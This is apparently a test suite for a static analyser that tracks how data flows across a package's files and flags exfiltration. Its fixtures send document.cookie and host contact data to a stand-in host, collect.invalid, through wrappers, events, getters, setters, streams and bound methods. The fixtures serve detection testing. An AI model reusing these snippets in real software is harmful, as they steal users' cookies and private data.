import { analyze } from '../analyze.ts';
import { MANIFEST } from '../testing/analyze-text.ts';

async function loud(files: Record<string, string>, manifest: unknown = null) {
  const { findings } = await analyze({ files: new Map(Object.entries(files)), manifest });
  return findings.filter(({ severity }) => severity === 'critical' || severity === 'high');
}

async function exfiltrates(files: Record<string, string>, manifest: unknown = null): Promise<boolean> {
  return (await loud(files, manifest)).some(({ threat }) => threat === 'exfiltration');
}

const SEND = `export function report(kind, detail) { return fetch('https://collect.invalid/' + kind, { method: 'POST', body: detail }); }`;

describe('flows through the files of a package', () => {
  it.each<[string, Record<string, string>]>([
    [
      'an argument of a wrapper in another file',
      { 'a.js': `import { report } from './net.js'; report('x', document.cookie);`, 'net.js': SEND },
    ],
    [
      'what an imported function returns',
      {
        'a.js': `import { gather } from './gather.js'; navigator.sendBeacon('https://collect.invalid', gather());`,
        'gather.js': `export function gather() { return { jar: document.cookie }; }`,
      },
    ],
    [
      'a transform that another file passes on under a new name',
      {
        'a.js': `import { pack } from './index.js'; fetch('https://collect.invalid/' + pack(document.cookie));`,
        'index.js': `export { encode as pack } from './encode.js';`,
        'encode.js': `export const encode = (text) => btoa(text).slice(0, 80);`,
      },
    ],
    [
      'a member of an object that two files share',
      {
        'a.js': `import { state } from './state.js'; state.jar = document.cookie;`,
        'b.js': `import { state } from './state.js'; fetch('https://collect.invalid/' + state.jar);`,
        'state.js': `export const state = { jar: '' };`,
      },
    ],
    [
      'a callback that a required file calls',
      {
        'a.js': `const { each } = require('./each'); each((value) => fetch('https://collect.invalid/' + value));`,
        'each.js': `exports.each = (tell) => { tell(document.cookie); };`,
      },
    ],
    [
      'an event that another file listens to',
      {
        'a.js': `import { bus } from './bus.js'; bus.emit('saved', document.cookie);`,
        'b.js': `import { bus } from './bus.js'; bus.on('saved', (text) => fetch('https://collect.invalid/' + text));`,
        'bus.js': `import { EventEmitter } from 'node:events'; export const bus = new EventEmitter();`,
      },
    ],
    [
      'a getter',
      {
        'a.js': `class S { get jar() { return document.cookie; } } fetch('https://collect.invalid/' + new S().jar);`,
      },
    ],
    [
      'a setter',
      {
        'a.js': `class S { set jar(v) { fetch('https://collect.invalid/' + v); } } new S().jar = document.cookie;`,
      },
    ],
    [
      'a method of the class above',
      {
        'a.js': `import { A } from './a-class.js'; class B extends A { go() { this.ship(document.cookie); } } new B().go();`,
        'a-class.js': `export class A { ship(x) { fetch('https://collect.invalid/' + x); } }`,
      },
    ],
    [
      'a stream',
      {
        'a.js': `const s = new ReadableStream({ start(c) { c.enqueue(document.cookie); } }); fetch('https://collect.invalid', { method: 'POST', body: s });`,
      },
    ],
  ])('carry information through %s', async (_way, files) => {
    expect(await exfiltrates(files)).toBe(true);
  });

  it.each<[string, Record<string, string>]>([
    [
      'a wrapper that is given something else',
      {
        'a.js': `import { report } from './net.js'; report('x', 'started'); show(document.cookie);`,
        'net.js': SEND,
      },
    ],
    [
      'files that do not know each other',
      { 'a.js': `export const jar = document.cookie;`, 'net.js': `${SEND} report('x', 'y');` },
    ],
    [
      'an event of another name',
      {
        'a.js': `import { bus } from './bus.js'; bus.emit('saved', document.cookie);`,
        'b.js': `import { bus } from './bus.js'; bus.on('opened', (text) => fetch('https://collect.invalid/' + text));`,
        'bus.js': `import { EventEmitter } from 'node:events'; export const bus = new EventEmitter();`,
      },
    ],
    [
      'the place of an element, which says nothing of it',
      {
        'a.js': `document.cookie.split(';').forEach((part, place) => fetch('https://collect.invalid/' + place));`,
      },
    ],
  ])('leave %s alone', async (_way, files) => {
    expect(await exfiltrates(files)).toBe(false);
  });

  it('show every step with the file it stands in', async () => {
    const [finding] = await loud({
      'a.js': `import { report } from './net.js';\nreport('x', document.cookie);`,
      'net.js': SEND,
    });
    expect(finding).toMatchObject({ file: 'net.js', line: 1 });
    expect(finding?.flow?.[0]).toMatchObject({ file: 'a.js', line: 2 });
    expect(finding?.flow?.at(-1)?.file).toBe('net.js');
  });

  it('see through bound methods in a list, and name no host API after the binding', async () => {
    const text = `import { pack } from './pack.js';
export async function warm(api, key) {
  const { host: map } = api;
  const [look, send] = [map.call.bind(map), api.fetch.bind(api)];
  const tile = await look('contacts.read', { id: key });
  await send('https://collect.invalid/?' + pack(tile));
}`;
    const files = { 'a.js': text, 'pack.js': `export const pack = (value) => btoa(JSON.stringify(value));` };
    const { findings, facts } = await analyze({ files: new Map(Object.entries(files)), manifest: MANIFEST });
    expect(findings.map(({ ruleId, line }) => [ruleId, line])).toEqual([
      ['host-data-leaves', 6],
      ['undeclared-origin', 6],
    ]);
    expect(facts.hostApis.map(({ name }) => name)).toEqual(['contacts.read']);
  });

  it('are an error of a plugin, never silence, when its files are too large to be followed together', async () => {
    const files = new Map([
      ['a.js', `import { report } from './net.js'; report('x', document.cookie);`],
      ['net.js', SEND],
    ]);
    const plugin = await analyze({ files, manifest: MANIFEST, limits: { flowCharacters: 100 } });
    expect(plugin.errors.map(({ file }) => file)).toEqual(['a.js']);
    expect(plugin.errors[0]?.message).toContain('not followed');
    const library = await analyze({ files, limits: { flowCharacters: 100 } });
    expect(library.errors).toEqual([]);
  });
});
